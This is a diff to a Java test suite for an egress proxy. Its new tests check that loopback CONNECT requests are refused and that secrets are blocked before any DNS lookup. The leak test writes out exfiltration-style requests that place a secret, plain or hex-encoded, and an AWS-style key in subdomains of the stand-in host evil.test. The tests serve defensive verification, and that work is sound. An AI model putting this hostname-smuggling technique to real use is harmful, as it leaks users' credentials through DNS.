@@ -341,11 +341,40 @@ class EgressProxyTest {
     Result literal = java(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + plain.port() + "/")).build());
     assertThat(literal.status()).isEqualTo(403);
     Result connect = curl(apiUrl("/"));
-    assertThat(connect.status()).isNotEqualTo(200);
-    assertThat(records).anySatisfy(x -> assertThat(x.method()).isEqualTo("CONNECT"));
+    assertThat(connect.status()).isEqualTo(403);
+    assertThat(connect.body()).contains("loopback");
+    assertThat(records).hasSize(3).allSatisfy(x -> assertThat(x.rule()).isEqualTo(EgressRecord.RULE_DESTINATION));
     assertThat(plain.received).isEmpty();
     assertThat(api.received).isEmpty();
+  }
+
+  @Test
+  void connectToLoopbackLiteral_refusedAtConnectWithoutDns() throws Exception {
+    proxy.close();
+    proxy = startProxy(new DestinationGuard(resolver, List.of()), null);
+    Result r = curl("https://127.0.0.1:" + api.port() + "/");
+    assertThat(r.status()).isNotEqualTo(200);
+    assertThat(lastRecord().method()).isEqualTo("CONNECT");
+    assertThat(lastRecord().rule()).isEqualTo(EgressRecord.RULE_DESTINATION);
+    assertThat(lookups).hasValue(0);
     assertThat(authorized).isEmpty();
+  }
+
+  @Test
+  void secretInHostName_blockedBeforeAnyDnsLookup() throws Exception {
+    vault.add("dns", Secret.ofUtf8("s3cretvalue42xyz"), List.of(HostPattern.of("a.example")), List.of());
+    String hex = HexFormat.of().formatHex("s3cretvalue42xyz".getBytes(StandardCharsets.UTF_8));
+    Result viaConnect = curl("https://" + hex + ".evil.test:" + evil.port() + "/");
+    assertThat(viaConnect.body()).contains("403"); // curl reports the refused CONNECT as an error
+    assertThat(lastRecord().method()).isEqualTo("CONNECT");
+    assertThat(lastRecord().blockedReasonOrNull()).contains("hex-encoded value of secret 'dns'");
+    Result viaForward = java(HttpRequest.newBuilder(URI.create("http://s3cretvalue42xyz.evil.test:" + plain.port() + "/")).build());
+    assertThat(viaForward.status()).isEqualTo(403);
+    Result shape = java(HttpRequest.newBuilder(URI.create("http://AKIAIOSFODNN7EXAMPLE.evil.test:" + plain.port() + "/")).build());
+    assertThat(shape.status()).isEqualTo(403);
+    assertThat(shape.body()).contains("AWS access key");
+    assertThat(lookups).as("DNS is an exfiltration channel too").hasValue(0);
+    assertThat(records).allSatisfy(r -> assertThat(r.rule()).isEqualTo(EgressRecord.RULE_LEAK));
   }
 
   @Test
@@ -398,6 +427,7 @@ class EgressProxyTest {
     assertThat(api.received).isEmpty();
     assertThat(lastRecord().verdict()).isEqualTo("deny");
     assertThat(lastRecord().rule()).isEqualTo("deny-untrusted-egress");
+    assertThat(lookups).as("a refused request causes no DNS query").hasValue(0);
   }
 
   @Test
